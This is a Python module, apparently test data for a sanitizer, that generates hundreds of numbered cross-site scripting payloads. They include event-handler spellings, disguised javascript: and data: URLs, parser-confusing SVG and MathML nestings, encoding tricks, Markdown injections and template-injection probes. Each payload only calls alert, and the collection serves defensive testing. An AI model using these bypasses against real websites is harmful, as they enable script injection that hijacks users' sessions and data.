"""XSS payloads. Each calls `alert` with its own number, so that one that runs can be identified.

They are combinations of elements and their events, in several spellings; script URLs, in several disguises and
attributes; nestings on which parsers disagree; and tricks with templates, entities and Markdown.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from itertools import count

TAGS = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("a tabindex=1 autofocus href=x", "onfocus"),
    ("style", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("mark tabindex=0 autofocus", "onfocus"),
    ("x contenteditable autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("p tabindex=0", "onclick"),
    ("div", "onpointerenter"),
    ("time", "onmouseover"),
)
SPELLINGS: tuple[Callable[[str, str, str], str], ...] = (
    lambda tag, event, code: f"<{tag} {event}={code}>",
    lambda tag, event, code: f'"><{tag} {event.upper()}="{code}">',
    lambda tag, event, code: f"'></title></textarea><{tag.replace(' ', '/')}/{event}\n=\n'{code}'//",
    lambda tag, event, code: (
        f"&quot; {event}={code} x=<{tag}\t{event}=&#97;lert{code.removeprefix('alert')} "
    ),
)
ADDRESSES: tuple[Callable[[str], str], ...] = (
    lambda code: f"javascript:{code}",
    lambda code: f"JaVaScRiPt:{code}",
    lambda code: f" \x01javascript:{code}",
    lambda code: f"java\tscript:{code}",
    lambda code: f"java\nscript:{code}",
    lambda code: f"&#106;&#x61;vascript:{code}",
    lambda code: f"javascript&colon;{code}",
    lambda code: f"jav&#x0A;ascript:{code}",
    lambda code: f"javascript://x.example/%0a{code}",
    lambda code: f"javascript\u200b:{code}",
    lambda code: f"data:text/html,<script>{code}</script>",
    lambda code: f"data:text/html;base64,{base64.b64encode(f'<script>{code}</script>'.encode()).decode()}",
    lambda code: f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{code}'/>",
    lambda code: f"vbscript:{code}",
    lambda code: f"feed:javascript:{code}",
    lambda code: f'//x.example/\\"onmouseover={code}',
)
CARRIERS: tuple[Callable[[str], str], ...] = (
    lambda address: f'<a href="{address}">read on</a>',
    lambda address: f"<iframe src='{address}'></iframe>",
    lambda address: f"[read on]({address})",
    lambda address: f"![seen]({address})",
    lambda address: f"<{address}>",
    lambda address: f'<form action="{address}"><input type=submit formaction="{address}"></form>',
    lambda address: f'<svg><a xlink:href="{address}" href="{address}"><text>x</text></a></svg>',
)
NESTS: tuple[str, ...] = (
    "<script>CODE</script>",
    "<SCRIPT type=module>CODE</SCRIPT >",
    '"><script>CODE</script>',
    "'></option></select><script>CODE</script>",
    "</title><script>CODE</script>",
    "</style></textarea></noscript></script><script>CODE</script>",
    "--><script>CODE</script><!--",
    "]]><script>CODE</script>",
    "<scr<script>ipt>CODE</scr</script>ipt>",
    "<<script>CODE//<</script>",
    "<script src=data:text/javascript,CODE></script>",
    "<scr\0ipt>CODE</scr\0ipt>",
    "<img\0src=x onerror=CODE>",
    "<img src=x\x0conerror=CODE>",
    "\u202e<script>CODE</script>\u202c",
    "<svg><script>CODE</script></svg>",
    "<svg><script>&#97;lert(NUMBER)</script></svg>",
    "<svg><style><img src=x onerror=CODE></style></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror=CODE>\">",
    "<svg><animate onbegin=CODE attributeName=x dur=1s></svg>",
    "<svg><a><animate attributeName=href values=javascript:CODE /><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>CODE</script>\"></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='CODE'/>#x\"/></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=CODE&gt;">',
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=CODE>",
    "<math><annotation-xml encoding=text/html><script>CODE</script></annotation-xml></math>",
    '<noscript><p title="</noscript><img src=x onerror=CODE>">',
    '<xmp><p title="</xmp><img src=x onerror=CODE>">',
    '<noembed><p title="</noembed><img src=x onerror=CODE>">',
    '<template><p title="</template><img src=x onerror=CODE>">',
    '<title><p title="</title><img src=x onerror=CODE>">',
    '<select><style></select><img src=x onerror=CODE></style>',
    "<table><tr><td><form><table></table><img src=x onerror=CODE></form>",
    '<p id="</p><img src=x onerror=CODE>">x',
    "<a href=x\"><img src=x onerror=CODE>\">x</a>",
    "<!--><img src=x onerror=CODE>-->",
    "<!--[if gte IE 4]><script>CODE</script><![endif]-->",
    "<?xml version='1.0'?><img src=x onerror=CODE>",
    "<![CDATA[<img src=x onerror=CODE>]]>",
    '<iframe srcdoc="&lt;script&gt;CODE&lt;/script&gt;"></iframe>',
    "<object data='data:text/html,<script>CODE</script>'></object>",
    "<embed src='data:text/html,<script>CODE</script>'>",
    '<meta http-equiv=refresh content="0;url=javascript:CODE">',
    '<base href="javascript:CODE//"><a href="#">x</a>',
    "<div style=\"background:url('javascript:CODE')\">",
    "<div style=width:expression(CODE)>",
    "<style>@import 'javascript:CODE'; body { display: none }</style>",
    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=CODE>b</b>",
    "<link rel=import href='data:text/html,<script>CODE</script>'>",
    "{{ 7*7 }}{{ constructor.constructor('CODE')() }}",
    "{% print(7*7) %}{{ self.__init__.__globals__ }}",
    "${CODE}#{CODE}<%= CODE %>",
    "`${CODE}`",
    "&lt;script&gt;CODE&lt;/script&gt;",
    "&amp;lt;img src=x onerror=CODE&amp;gt;",
    "&#60;img src=x onerror=CODE&#62;",
    "%3Cscript%3ECODE%3C/script%3E",
    "\\u003cscript\\u003eCODE\\u003c/script\\u003e",
    "＜script＞CODE＜/script＞",
    "+ADw-script+AD4-CODE+ADw-/script+AD4-",
    "\ufeff<img src=x onerror=CODE>",
    "中文<img src=x onerror=CODE>العربية",
    '[x](https://x.example "t" onmouseover="CODE")',
    '![x](https://x.example/a.png"onerror="CODE)',
    '![" onerror="CODE](https://x.example/a.png)',
    "![<img src=x onerror=CODE>](https://x.example/a.png)",
    "[<img src=x onerror=CODE>](https://x.example/)",
    "[x][y]\n\n[y]: javascript:CODE",
    '<https://x.example/"onmouseover=CODE//>',
    "```\"><script>CODE</script>\nx\n```",
    "`</code><script>CODE</script>`",
    "    </code></pre><script>CODE</script>",
    "# <script>CODE</script>\n\n> <img src=x onerror=CODE>",
    "| <script>CODE</script> |\n|---|\n| <img src=x onerror=CODE> |",
    "<mark class=word data-reason=x onfocus=CODE tabindex=0 autofocus>x</mark>",
    "<a data-picture href=javascript:CODE>Show the picture</a>",
    "<form action=/logout method=post><button data-mark=read autofocus onfocus=CODE>x</button></form>",
)  # fmt: skip


def _payloads() -> Iterator[str]:
    numbers = count(1)
    for tag, event in TAGS:
        for spell in SPELLINGS:
            yield spell(tag, event, f"alert({next(numbers)})")
    for address in ADDRESSES:
        for carry in CARRIERS:
            yield carry(address(f"alert({next(numbers)})"))
    for nest in NESTS:
        number = next(numbers)
        yield nest.replace("CODE", f"alert({number})").replace("NUMBER", str(number))


PAYLOADS = tuple(_payloads())
PROGRAMS = tuple(address(f"alert({number})") for number, address in enumerate(ADDRESSES, 1000))
"""Script URLs alone."""
